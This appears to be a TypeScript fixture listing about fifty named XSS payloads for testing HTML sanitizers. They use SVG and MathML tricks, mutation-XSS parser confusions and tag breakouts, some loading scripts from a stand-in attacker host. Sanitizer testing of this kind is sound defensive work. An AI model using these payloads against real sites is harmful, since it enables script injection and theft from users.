// SVG and MathML, and what parsers read differently the second time: the ways past sanitizers of the past.
import { evil, type Payload, run } from "./payload.ts";

const image = `<img src=x onerror=${run}>`;

export const foreign: readonly Payload[] = [
  ["SVG that loads", `<svg onload=${run}></svg>`],
  ["SVG without spaces", `<svg/onload=${run}>`],
  ["SVG inside SVG", `<svg><svg onload=${run}></svg></svg>`],
  ["a script in SVG", `<svg><script>${run}</script></svg>`],
  ["a script in SVG in entities", "<svg><script>&#114;an()</script></svg>"],
  ["a script in SVG from elsewhere", `<svg><script href="${evil}/x.js" xlink:href="${evil}/y.js"/></svg>`],
  [
    "use of another drawing",
    `<svg><use href="${evil}/s.svg#x"/><use xlink:href="data:image/svg+xml,x#x"/></svg>`,
  ],
  ["an image in SVG", `<svg><image href="${evil}/i.png" xlink:href="${evil}/j.png" onerror=${run} /></svg>`],
  [
    "a filter in SVG",
    `<svg><filter id=f><feImage href="${evil}/f"/></filter><rect filter="url(${evil}/g#f)" width=9 height=9 /></svg>`,
  ],
  ["an animation in SVG", `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`],
  [
    "an animated address",
    `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=9>go</text></a></svg>`,
  ],
  [
    "an address that is set",
    `<svg><a><set attributeName=href to="javascript:${run}"/><text y=9>go</text></a></svg>`,
  ],
  ["HTML in SVG", `<svg><foreignObject><body onload=${run}>${image}</body></foreignObject></svg>`],
  ["a style in SVG", `<svg><style>@import "${evil}/x.css";</style><p style="color:red">x</svg>`],
  [
    "a handler element in SVG",
    `<svg><handler ev:event="load">${run}</handler><discard onbegin=${run} /></svg>`,
  ],
  [
    "MathML with a link",
    `<math href="javascript:${run}">x</math><math><mi xlink:href="javascript:${run}">y</mi></math>`,
  ],
  [
    "MathML with an action",
    `<math><maction actiontype="statusline#${evil}" href="javascript:${run}">x</maction></math>`,
  ],
  [
    "MathML with a document inside",
    `<math><annotation-xml encoding="text/html">${image}</annotation-xml></math>`,
  ],
  ["MathML that becomes HTML", `<math><mtext></p><script>${run}</script></mtext></math>`],
  [
    "a style in MathML in a table",
    `<math><mtext><table><mglyph><style><!--</style>${image.replace("<img", '<img title="-->')}">`,
  ],
  ["a mutation of 2019", `<svg></p><style><a id="</style>${image}">`],
  ["a mutation of 2020", `<form><math><mtext></form><form><mglyph><style></math>${image}`],
  ["a mutation with a comment", `<math><mtext><table><mglyph><style><math><!--</style>${image}-->`],
  ["a mutation with a title", `<svg><title><style><!--</style>${image}--></title></svg>`],
  ["a mutation with select", `<math><mtext><option><select><mglyph><style></select>${image}</style>`],
  ["a mutation with a paragraph", `<svg><p><style><g title="</style>${image}"></g></style></svg>`],
  [
    "a mutation with CDATA",
    `<svg><desc><![CDATA[</desc>${image}]]></svg> <math><![CDATA[><${image.slice(1)}]]>`,
  ],
  ["a mutation with a template", `<template><s><template><s>${image}</s>${image}</s></template>`],
  ["a shadow root", `<div><template shadowrootmode=open>${image}<slot></slot></template></div>`],
  ["noscript", `<noscript><p title="</noscript>${image}"></noscript>`],
  ["noscript in a style", `<noscript><style></noscript>${image}</style></noscript>`],
  [
    "noembed and noframes",
    `<noembed><p title="</noembed>${image}"></noembed><noframes><p title="</noframes>${image}">`,
  ],
  ["xmp and listing", `<xmp><p title="</xmp>${image}"></xmp><listing>${image}</listing>`],
  ["a text area", `<textarea><p title="</textarea>${image}"></textarea>`],
  ["a title", `<title><p title="</title>${image}"></title>`],
  ["a frame's text", `<iframe><p title="</iframe>${image}"></iframe>`],
  ["plain text", `<plaintext>${image}`],
  ["a caption that leaves its table", `<table><caption><table><p title="</table>${image}"></table>`],
  ["rows without a table", `<tr><td>${image}</td></tr><table><tr>${image}<td>x</table>`],
  ["a button in a button", `<button><b><button>${image}</b></button><a><b><a>${image}</b></a>`],
  ["lists that are not closed", `<dl><dt><dd><li><ul><li>${image}</dl>`],
  [
    "attributes that close the tag",
    `<b title="></b>${image}">b</b> <b title='>${image}'>b</b> <b "${image}">b</b>`,
  ],
  ["attributes with a slash", `<b/title="/>${image}"/>b</b/x> <b =x="${image}">b</b>`],
  ["an open quote", `<b title="x>${image}\n\n">text`],
  [
    "harmless tags with more in them",
    `<s onclick=${run}>s</s> <br onload=${run}> <sub style=x>x</sub> <kbd id=log>k</kbd> <u/onclick=${run}>u</u>`,
  ],
  ["formatting that is never closed", `<s><u><mark><kbd><sub>${image}\n\nnext\n\n- list\n\n> quote`],
  ["closing tags alone", "</p></div></body></html></section></main></script></style></template></svg>"],
  [
    "a scripted name space",
    `<html xmlns:x="${evil}"><x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
  ],
  ["a document type", `<!DOCTYPE html [<!ENTITY x SYSTEM "${evil}/e">]>&x; <!ENTITY y "z"> <!x ${image}>`],
];
